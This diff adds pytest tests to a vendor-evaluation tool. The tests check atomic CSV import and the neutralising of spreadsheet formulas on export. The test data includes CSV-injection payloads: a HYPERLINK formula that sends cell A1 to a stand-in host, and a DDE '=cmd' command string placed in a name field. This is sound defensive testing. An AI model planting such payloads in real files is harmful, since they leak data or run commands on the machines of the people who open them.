@@ -452,3 +452,62 @@ def test_a_file_planted_in_my_folder_under_another_name_is_never_written(ws, cap
     assert_refused(code, err, "scores-a.json", "Dana Okafor", "nothing was written")
     assert tree(ws) == before
     assert Workspace(ws).answers_of(USER, "v1") == {}  # Dana's file is not read as mine
+
+
+# --- 3. data in and out ------------------------------------------------------------------
+
+
+def test_an_import_whose_second_target_file_is_corrupt_changes_nothing(ws, root, capsys):
+    good = root / "scores.csv"
+    good.write_text("evaluator,vendor,criterion,score,note\nDana,Acme,a.one,4,fine\n")
+    second = root / "legal.csv"
+    second.write_text("reviewer,vendor,item,status,note\nMaya Chen,Acme,C1,missing,changed\n")
+    (person_dir(ws) / "v1" / "legal-privacy.json").write_text('{"findings": {"1": ')  # torn by someone's tool
+    before = tree(root)
+    code, _, err = run(capsys, "import", ws, good, second)
+    assert_refused(code, err, "legal-privacy.json", "corrupt")
+    assert tree(root) == before
+
+
+def test_an_import_into_a_file_recorded_for_someone_else_changes_nothing(ws, root, capsys):
+    file = person_dir(ws) / "v1" / "legal-privacy.json"
+    doc = json.loads(file.read_text())
+    doc["meta"]["1"]["person"] = "Dana Okafor"
+    file.write_text(json.dumps(doc))
+    first = root / "scores.csv"
+    first.write_text("evaluator,vendor,criterion,score,note\nZoe,Acme,a.one,4,\n")
+    second = root / "legal.csv"
+    second.write_text("reviewer,vendor,item,status,note\nMaya Chen,Acme,H1,ok,\n")
+    before = tree(root)
+    code, _, err = run(capsys, "import", ws, first, second)
+    assert_refused(code, err, "legal-privacy.json", "Dana Okafor", "nothing was imported")
+    assert tree(root) == before
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "'=already escaped",
+            "''", "'plain apostrophe", "=1\n=2", "a normal note", "- a bullet"]
+
+
+def test_csv_export_neutralises_formulas_and_the_round_trip_is_lossless(ws, root, capsys):
+    from vendorbench.transfer import restore_cell
+
+    w = Workspace(ws)
+    for i, text in enumerate(FORMULAS):
+        w.set_answer(USER, "v1", "b.one", 2, note=text, evidence=text)
+        w.set_finding("=cmd|' /C calc'!A0", "v1", "H1", "ok", note=text, clause=text)
+        out = root / f"export-{i}.csv"
+        assert main(["export", str(ws), "--format", "csv", "-o", str(out)]) == 0
+        import csv
+
+        for file in (out, root / f"export-{i}-legal.csv"):
+            for row in list(csv.reader(file.open(newline="", encoding="utf-8")))[1:]:
+                assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+                if row[2] in {"b.one", "H1"}:
+                    assert [restore_cell(c) for c in row][4:] == [text, text]
+        # the exported files re-import to the same data: nothing changes
+        before = tree(ws)
+        code, outp, err = run(capsys, "import", ws, out, root / f"export-{i}-legal.csv")
+        assert code == 0 and "0 changed" in outp, err
+        assert tree(ws) == before
+    capsys.readouterr()
+    assert Workspace(ws).answers_of(USER, "v1")["b.one"].note == FORMULAS[-1]
